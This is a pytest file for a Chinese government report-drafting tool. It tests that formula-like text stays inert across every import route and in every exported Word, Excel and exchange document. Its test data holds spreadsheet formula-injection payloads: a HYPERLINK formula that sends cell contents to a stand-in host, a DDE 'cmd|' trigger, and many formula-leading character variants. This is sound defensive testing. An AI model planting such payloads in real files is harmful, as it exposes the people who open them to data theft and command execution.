"""A text that looks like a formula is a text in every document, whatever road it came in by."""

import io
import json
import re
import zipfile
from collections.abc import Callable, Iterator
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText
from html import escape
from pathlib import Path

import pytest
from docx import Document
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from gkdesk.cli import main
from gkdesk.desk.desk import Desk
from gkdesk.desk.documents import Wanted, export
from gkdesk.desk.earlier import Wish, bring_file
from gkdesk.desk.handover import hand_over
from gkdesk.desk.rounds import accept, changes_sheet, send, take_back
from gkdesk.domain.defined_names import UNIT as UNIT_NAME
from gkdesk.domain.defined_names import name_of
from gkdesk.domain.errors import InvalidValue
from gkdesk.domain.kinds import KINDS, Prose
from gkdesk.domain.layout import lay_out
from gkdesk.domain.paste import copy_block
from gkdesk.domain.report import Report
from gkdesk.readers import exchange, foreign
from gkdesk.readers.editions import Editions
from gkdesk.readers.words import OwnWords
from gkdesk.store.log import Store
from gkdesk.writers import excel
from tests.readers.foreign import NOW, body, changed, full_report, written

MARKS = ("=", "+", "-", "@", "{=", "\t=", "\r=", "＝", "＋", "－", "＠", "'=", "\x00=", "\ufeff=")
CALL = 'HYPERLINK("http://x.example/?"&A1,"点")*cmd|_x0041_!A0'
WORD = "=1+HYPERLINK"
TITLE = "2023年政府信息公开工作年度报告"
SENT = "原来的第一句话。"


def unit_of(mark: str) -> str:
    return f"{mark}1+{CALL}某某市水务局"


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    opened = Store(tmp_path / "store")
    yield opened
    opened.close()


@pytest.fixture
def desk(store: Store, editions: Editions, tmp_path: Path) -> Desk:
    """With a word list of the office's own, which the findings quote."""
    words = OwnWords(tmp_path)
    words.path.write_text(f"{WORD}\n", encoding="utf-8")
    return Desk(store, editions, now=lambda: NOW, words=words)


# ---- The roads in: each brings ``text`` into the overview of a report, and says which


def typed(desk: Desk, text: str, _: Path) -> int:
    made = desk.new(unit_of("="), 2023).id
    desk.put(made, "overview", text)
    return made


def pasted(desk: Desk, text: str, _: Path) -> int:
    made = desk.new(unit_of("="), 2023).id
    assert not desk.put_many(made, {"overview": text, "unit/office": text}, "pasted")
    return made


def of_command(desk: Desk, text: str, folder: Path) -> int:
    """By a store of its own, which is handed over; a text with NUL is no argument of a command."""
    there = ["--store", str(folder / "there")]
    assert main([*there, "new", "--", unit_of("="), "2023"]) == 0
    assert main([*there, "put", "--", "2023", "overview", text.replace("\x00", "")]) == 0
    assert main([*there, "export", "2023", "--to", str(folder / "made"), "--exchange"]) == 0
    (path,) = (folder / "made").iterdir()
    return bring_file(desk, path, Wish()).entry.id


def lines(text: str) -> list[str]:
    return [unit_of("="), TITLE, "一、总体情况", Prose().parse(text), "二、主动公开政府信息情况"]


def brought(desk: Desk, folder: Path, name: str, content: bytes | str) -> int:
    wish = Wish(unit_of("="), 2023)
    return bring_file(desk, written(folder, name, content), wish).entry.id


def of_exchange(desk: Desk, text: str, folder: Path) -> int:
    content = exchange_file(text, unit_of("="))
    return brought(desk, folder, "=1+1.gk.json", content)


def exchange_file(text: str, unit: str) -> str:
    head = {"gkdesk": 1, "unit": {"name": unit}, "year": 2023, "edition": "2021"}
    return json.dumps({**head, "values": {"overview": text}})


def of_text(desk: Desk, text: str, folder: Path) -> int:
    return brought(desk, folder, "@往年.txt", "\n".join(lines(text)))


def page(text: str) -> str:
    told = "".join(f"<p>{escape(line)}</p>" for line in "\n".join(lines(text)).split("\n"))
    return f'<html><head><meta charset="utf-8"></head><body>{told}</body></html>'


def of_page(desk: Desk, text: str, folder: Path) -> int:
    return brought(desk, folder, "+往年.html", page(text))


def of_saved_page(desk: Desk, text: str, folder: Path) -> int:
    made = MIMEMultipart("related")
    made.attach(MIMEText(page(text), "html", "utf-8"))
    return brought(desk, folder, "-往年.mht", made.as_bytes())


def of_word(desk: Desk, text: str, folder: Path) -> int:
    runs = (f"<w:p><w:r><w:t>{escape(line)}</w:t></w:r></w:p>" for line in lines(text))
    return brought(desk, folder, "=往年.docx", body(*runs))


def of_returned(desk: Desk, text: str, folder: Path) -> int:
    """Written by a leader in the place of a sentence, without a trace."""
    made = desk.new(unit_of("="), 2023).id
    desk.put(made, "overview", SENT)
    content = send(desk, made, folder / "sent").file.read_bytes()
    back = written(folder, "=返回.docx", changed(content, SENT, escape(Prose().parse(text))))
    returned = take_back(desk, back)
    assert not accept(desk, returned, returned.undisputed)
    return made


ROADS: tuple[Callable[[Desk, str, Path], int], ...] = (
    *(typed, pasted, of_command, of_exchange, of_text, of_page, of_saved_page, of_word),
    of_returned,
)


# ---- What is made of it


def documents(desk: Desk, report: int, folder: Path) -> list[Path]:
    """Everything the program writes of a report."""
    wanted = Wanted(word=True, excel=True, exchange=True, check=True, draft=False)
    made = export(desk, report, folder / "out", wanted)
    if desk.entry(report).status == "draft":
        send(desk, report, folder / "out")
        desk.put(report, "overview", desk.report(report).values["overview"] + "又加了一句。")
        made.append(changes_sheet(desk, report, folder / "out"))
    return made + hand_over(desk, desk.entry(report).unit, folder / "out" / "移交.gkd")[1:]


def require_plain_word(path: Path) -> None:
    """No field but the page's number, nothing that leads elsewhere."""
    with zipfile.ZipFile(path) as package:
        parts = {name: package.read(name).decode() for name in package.namelist()}
    told = "".join(part for name, part in parts.items() if name.startswith("word/"))
    fields = re.findall(r"<w:instrText[^>]*>([^<]*)<|<w:fldSimple [^>]*w:instr=\"([^\"]*)", told)
    assert {"".join(each).split()[0] for each in fields} <= {"PAGE", "NUMPAGES"}
    assert "<w:hyperlink" not in told
    assert "External" not in "".join(p for n, p in parts.items() if n.endswith(".rels"))


def require_plain_excel(path: Path, report: Report) -> None:
    """No formula but our totals, no link, and the name of the unit as it is."""
    derived = {
        (table.label, 3 + cell.row, 1 + cell.column)
        for table in report.form.tables
        for cell in lay_out(table).cells
        if cell.derived
    }
    book = load_workbook(path)
    for sheet in book:
        for cell in (cell for row in sheet.iter_rows() for cell in row):
            if cell.data_type == "f":
                assert (sheet.title, cell.row, cell.column) in derived
                assert str(cell.value).startswith("=IF(COUNT(")
            elif isinstance(cell.value, str) and report.unit in cell.value:
                assert cell.quotePrefix
            assert cell.hyperlink is None
    [(sheet_name, place)] = book.defined_names[UNIT_NAME].destinations
    escaped = report.unit.replace("_x0041_", "_x005F_x0041_")
    assert book[sheet_name][place].value in (report.unit, escaped)
    with zipfile.ZipFile(path) as package:
        assert not [name for name in package.namelist() if "Links" in name or "connect" in name]


def paragraphs(path: Path) -> str:
    return "\n".join(each.text for each in Document(io.BytesIO(path.read_bytes())).paragraphs)


TEXT = "\n".join(f"{mark}1+{CALL}；本年工作正常。" for mark in MARKS)


def bare(text: str) -> list[str]:
    """The paragraphs of a text without the blanks around them."""
    return [line.strip() for line in Prose().parse(text).split("\n") if line.strip()]


def cells(path: Path) -> str:
    tables = Document(io.BytesIO(path.read_bytes())).tables
    return "\n".join(cell.text for table in tables for row in table.rows for cell in row.cells)


@pytest.mark.parametrize("road", ROADS)
def test_it_is_text_in_every_document(
    road: Callable[[Desk, str, Path], int], desk: Desk, tmp_path: Path
) -> None:
    report = road(desk, TEXT, tmp_path)
    kept = desk.report(report)
    stored = kept.values["overview"]
    assert bare(stored) == bare(TEXT)
    assert kept.unit == unit_of("=")
    made = documents(desk, report, tmp_path)
    assert len(made) >= 5
    for path in made:
        if path.suffix == ".docx":
            require_plain_word(path)
        elif path.suffix == ".xlsx":
            require_plain_excel(path, kept)
        else:
            assert exchange.read(path).values["overview"] == stored
    (check,) = (tmp_path / "out").glob("*（核对表）.docx")
    assert f"“{WORD}”" in cells(check)
    (word,) = (tmp_path / "out").glob("*年度报告.docx")
    assert "\n".join(bare(TEXT)) in paragraphs(word)


@pytest.mark.parametrize("mark", MARKS)
def test_a_unit_comes_back_from_its_statistics_sheet_as_it_was(
    mark: str, desk: Desk, tmp_path: Path
) -> None:
    made = desk.new(unit_of(mark), 2023)
    (path,) = export(desk, made.id, tmp_path / "out", Wanted(word=False, excel=True))
    require_plain_excel(path, desk.report(made.id))
    again = bring_file(desk, path, Wish("", 2024))
    assert again.reading.report.unit == desk.report(made.id).unit


def test_formulas_in_somebody_elses_workbook_are_figures_or_refused(
    desk: Desk, tmp_path: Path, editions: Editions
) -> None:
    """Where other people's formulas stand in the cells of a table."""
    report = full_report(editions, 2023)
    book = load_workbook(io.BytesIO(excel.write(report, now=NOW)))
    [(sheet, place)] = book.defined_names[name_of("applications/new/person")].destinations
    book[sheet][place].value = '=HYPERLINK("http://x.example")'
    book.save(tmp_path / "=往年.xlsx")
    brought = bring_file(desk, tmp_path / "=往年.xlsx", Wish("某某市水务局", 2023))
    assert not [text for text in brought.reading.report.values.values() if "HYPERLINK" in text]
    assert brought.reading.found is not None
    assert [each for each in brought.reading.found.unread if "HYPERLINK" in each.text]


FIGURE = re.compile(r"([增减+-]?[0-9]+|[0-9]+(\.[0-9]+)?(元|万元)?)?")


@given(text=st.text(st.sampled_from("=+-@＝＋－＠\t\r'{}0123456789.,元万增减cmd|!A")))
def test_no_cell_of_a_table_holds_anything_but_a_figure(text: str) -> None:
    """So neither a document nor the clipboard carries anything else out of one."""
    for name, kind in KINDS.items():
        if kind.is_number:
            try:
                kept = kind(unit="元" if name == "money" else "").parse(text)
            except InvalidValue:
                continue
            assert FIGURE.fullmatch(kept), (name, kept)


def test_what_is_copied_from_a_table_is_figures(editions: Editions) -> None:
    report = full_report(editions, 2019)
    for table in report.form.tables:
        grid = lay_out(table)
        text, page = copy_block(report, grid, list(grid.by_path))
        for scrap in re.split(r"[\t\n]", text) + re.findall(r"<td[^>]*>([^<]*)<", page):
            assert FIGURE.fullmatch(scrap), scrap


def test_a_character_that_xml_cannot_hold_is_read_as_excel_writes_it(tmp_path: Path) -> None:
    book = Workbook()
    assert book.active is not None
    book.active["A1"] = "某局_x000D__x0000__xD800__x005F_x0041_"
    book.save(tmp_path / "a.xlsx")
    (sheet,) = foreign.read(tmp_path / "a.xlsx").items
    assert sheet.rows[0][0].text == "某局_x0041_"  # type: ignore[union-attr]  # it is a sheet
